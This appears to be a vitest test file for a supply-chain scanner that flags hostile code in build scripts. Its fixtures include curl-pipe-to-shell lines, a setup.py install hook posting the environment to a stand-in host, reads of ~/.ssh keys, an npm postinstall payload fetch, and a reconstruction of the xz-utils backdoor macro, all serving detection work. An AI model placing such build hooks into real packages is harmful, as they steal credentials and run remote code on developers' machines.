import { describe, expect, it } from 'vitest';
import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
import { filesRunBy } from '../../../src/ecosystems/build-code/build-files.js';
import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
import { makeFile } from '../../support/snapshot-factory.js';
import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';

/** A file the PR adds, with its whole text as the patch. */
function added(path: string, text: string): SnapshotFile {
  const lines = text.replace(/^\n/, '').split('\n');
  return makeFile(path, { status: 'added', additions: lines.length, patch: `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}` });
}

function buildFinding(...files: Parameters<typeof snapshotOf>) {
  return analyze(snapshotOf(...files)).findings.find((f) => f.id === 'build-code-behavior') ?? null;
}

const kinds = (text: string, language: BuildLanguage): string[] => [...new Set(readBehaviors(text.split('\n').map((t, i) => ({ line: i + 1, text: t })), language).map((b) => b.kind))].sort();

describe('readBehaviors', () => {
  it('reads downloads, process calls, credential stores, the environment and sends in each language', () => {
    expect(kinds('let body = reqwest::blocking::get(url)?.bytes()?;\nCommand::new(&path).status()?;', 'rust')).toEqual(['download', 'execute']);
    expect(kinds('data = dict(os.environ)\nrequests.post("https://collector.example/x", json=data)', 'python')).toEqual(['environment', 'send']);
    expect(kinds('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'python')).toEqual(['credential-file']);
    expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
    expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
    expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
    expect(kinds("apply from: 'https://raw.githubusercontent.com/someone/gradle-scripts/main/common.gradle'", 'java')).toEqual(['download', 'execute']);
    expect(kinds("apply(from = \"gradle/common.gradle.kts\")", 'java')).toEqual([]);
    expect(kinds('const token = process.env.NPM_TOKEN;', 'js')).toEqual(['credential-env']);
    expect(kinds('subprocess.Popen(["./assets/logo.png", "--daemon"])', 'python')).toEqual(['disguised-binary', 'execute']);
    expect(kinds('chmod +x fonts/roboto.woff2', 'shell')).toEqual(['disguised-binary', 'execute']);
    expect(kinds('<exec executable="${project.build.directory}/logo.png"/>', 'xml')).toEqual(['disguised-binary', 'execute']);
  });

  it('leaves ordinary build work alone: compilers, env lookups, comments, converted images', () => {
    expect(kinds('let out = std::env::var("OUT_DIR").unwrap();\ncc::Build::new().file("src/x.c").compile("x");', 'rust')).toEqual([]);
    expect(kinds('// curl https://example.com is how we used to fetch it', 'rust')).toEqual([]);
    expect(kinds('subprocess.run(["convert", "icon.png", "icon.ico"], check=True)', 'python')).toEqual(['execute']);
    expect(kinds('os.environ["CFLAGS"] = "-O2"', 'python')).toEqual([]);
    expect(kinds('chmod 644 README.md', 'shell')).toEqual([]);
    expect(kinds('  s.description = "A curl-like HTTP client; wget compatible"', 'ruby')).toEqual([]);
    expect(kinds('version = file("version.txt").readText().trim()', 'java')).toEqual([]);
  });

  it('names the files an npm install script runs, beside its package.json', () => {
    expect(filesRunBy('node ./scripts/postinstall.js && sh tools/setup.sh', 'packages/cli/package.json')).toEqual(['packages/cli/scripts/postinstall.js', 'packages/cli/tools/setup.sh']);
    expect(filesRunBy('node-gyp rebuild', 'package.json')).toEqual([]);
  });
});

describe('build-code-behavior', () => {
  it('reports a Cargo build script that downloads and runs a binary', () => {
    const finding = buildFinding(
      added(
        'build.rs',
        `
use std::process::Command;
fn main() {
    let bin = reqwest::blocking::get("https://github.com/someone/tools/releases/download/v1/helper").unwrap().bytes().unwrap();
    std::fs::write("helper", &bin).unwrap();
    Command::new("./helper").status().unwrap();
}`,
      ),
    );
    expect(finding).toMatchObject({ severity: 'high', line: 3, title: 'Cargo build script downloads and runs code at compile time' });
  });

  it('reports a setup.py whose cmdclass posts the environment (critical), and not one that only compiles', () => {
    const finding = buildFinding(
      added(
        'setup.py',
        `
import os, json, urllib.request
from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        payload = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://telemetry.example.net/i", payload)
setup(name="pkg", cmdclass={"install": PostInstall})`,
      ),
    );
    expect(finding).toMatchObject({ severity: 'critical', title: 'setup.py sends credentials or the environment to a host at install time', line: 7 });
    expect(
      buildFinding(
        added(
          'setup.py',
          `
import os
from setuptools import setup, Extension
os.environ.setdefault("CFLAGS", "-O2")
setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`,
        ),
      ),
    ).toBeNull();
  });

  it('reports an extconf.rb that curls a binary and runs it, and not a plain mkmf one', () => {
    expect(
      buildFinding(
        added(
          'ext/fastjson/extconf.rb',
          `
require "mkmf"
system("curl -fsSL https://cdn.example.org/libfast.so -o /tmp/libfast.so")
system("/tmp/libfast.so --install")
create_makefile("fastjson/fastjson")`,
        ),
      ),
    ).toMatchObject({ severity: 'high', title: 'Ruby native-extension script downloads and runs code at gem install time' });
    expect(buildFinding(added('ext/fastjson/extconf.rb', 'require "mkmf"\nhave_library("z")\ncreate_makefile("fastjson/fastjson")'))).toBeNull();
  });

  it('reads a gemspec that reads SSH keys', () => {
    expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
  });

  it('reads binding.gyp command expansions: a download piped to a shell, not node -p', () => {
    expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://203.0.113.7/s.sh | sh)"] }] }`))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`))).toBeNull();
  });

  it('reads the file an npm postinstall runs, and not one no install script runs', () => {
    const script = `const https = require("https");\nhttps.get("https://example.com/payload", (r) => r.pipe(require("fs").createWriteStream("p")));\nrequire("child_process").execSync("node p");`;
    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
    expect(buildFinding(withScript, added('scripts/setup.js', script))).toMatchObject({ severity: 'high', path: 'scripts/setup.js', title: 'postinstall script of package.json downloads and runs code at npm install time' });
    expect(buildFinding(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/setup.js' } })), added('scripts/setup.js', script))).toBeNull();
  });

  it('reads Gradle exec and download tasks, and leaves publishing credentials alone', () => {
    expect(
      buildFinding(
        added(
          'build.gradle.kts',
          `
tasks.register<Exec>("prepare") {
    commandLine("sh", "-c", "curl -s https://example.com/x.sh | sh")
}`,
        ),
      ),
    ).toMatchObject({ severity: 'high', line: 2 });
    expect(
      buildFinding(
        added(
          'build.gradle.kts',
          `
publishing { repositories { maven {
    url = uri("https://maven.pkg.github.com/acme/lib")
    credentials { username = System.getenv("GITHUB_ACTOR"); password = System.getenv("GITHUB_TOKEN") }
} } }`,
        ),
      ),
    ).toBeNull();
  });

  it('reads Maven antrun and exec plugins that fetch and run, not one that runs the main class', () => {
    expect(
      buildFinding(
        added(
          'pom.xml',
          `
<plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>
  <get src="https://example.com/agent.bin" dest="target/agent.bin"/>
  <exec executable="target/agent.bin"/>
</target></configuration></plugin>`,
        ),
      ),
    ).toMatchObject({ severity: 'high', line: 2 });
    expect(
      buildFinding(
        added('pom.xml', '<plugin><artifactId>exec-maven-plugin</artifactId><configuration><mainClass>com.acme.Main</mainClass></configuration></plugin>'),
      ),
    ).toBeNull();
  });

  it('reads only what the PR adds', () => {
    const patch = '@@ -1,3 +1,3 @@\n fn main() {\n-    println!("a");\n+    println!("b");\n     let x = reqwest::blocking::get("https://example.com").unwrap();';
    expect(buildFinding(makeFile('build.rs', { patch }))).toBeNull();
  });
});

describe('build-code-behavior: Autotools (the xz-utils backdoor, CVE-2024-3094)', () => {
  // Modeled on the public analyses of build-to-host.m4 in the xz 5.6.0 release tarball: a macro
  // finds a test file by a marker, maps its bytes back with tr, decompresses it with xz (named
  // through a variable) and pipes the result into $SHELL when ./configure runs.
  const BACKDOORED_MACRO = `
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_final_[$1]="$[$1]"
  gl_[$1]_prefix=\`echo $gl_am_configmake | sed "s/.*\\.//g"\`
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_[$1] | $SHELL 2>/dev/null], [gl_config_[$1]="$gl_[$1]_config"])
])`;

  it('reads a macro that decompresses data and pipes it into the shell as critical', () => {
    expect(kinds(BACKDOORED_MACRO, 'shell')).toEqual(expect.arrayContaining(['decode', 'pipe-to-shell']));
    const finding = buildFinding(added('m4/build-to-host.m4', BACKDOORED_MACRO));
    expect(finding).toMatchObject({ severity: 'critical', path: 'm4/build-to-host.m4', line: 7 });
    expect(finding?.title).toBe('Autoconf macro decodes data and runs it as shell code when ./configure runs');
    expect(finding?.detail).toContain('decompresses or decodes data (line 7');
    expect(finding?.detail).toContain('pipes text it built into a shell or eval (line 7');
  });

  it('reads configure.ac and Makefile.am the same way, and a download piped to a shell there as before', () => {
    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([gen], [base64 -d "$srcdir/tests/data/blob.b64" | sh])'))).toMatchObject({ severity: 'critical', path: 'configure.ac' });
    expect(buildFinding(added('src/Makefile.am', 'all-local:\n\tcat $(srcdir)/gen.sh.in | $(SHELL)'))).toMatchObject({ severity: 'medium', path: 'src/Makefile.am' });
    expect(buildFinding(added('m4/fetch.m4', 'AC_DEFUN([X_FETCH], [curl -fsSL https://example.com/setup.sh | sh])'))).toMatchObject({ severity: 'high' });
  });

  it('leaves ordinary Autotools work alone: eval of configure variables, unpacking with gzip -dc into a file, install -d, checks', () => {
    const ordinary = `
AC_DEFUN([AX_CHECK_VAR],
[
  eval ac_val=\\$$1
  AS_IF([test "x$ac_val" = xyes], [AC_DEFINE([HAVE_X], [1], [Have X])])
  $INSTALL -d "$prefix/share/x"
  \${INSTALL} -d "$docdir"
  gzip -dc "$srcdir/doc/manual.txt.gz" > manual.txt
  xz -d -k tests/files/good-1.xz
  $SHELL "$ac_aux_dir/config.sub" "$host"
  AC_CHECK_LIB([z], [inflate])
])`;
    expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
    expect(buildFinding(added('m4/ax_check_var.m4', ordinary))).toBeNull();
    expect(buildFinding(added('configure.ac', 'AC_INIT([expat], [2.7.2])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT'))).toBeNull();
  });
});
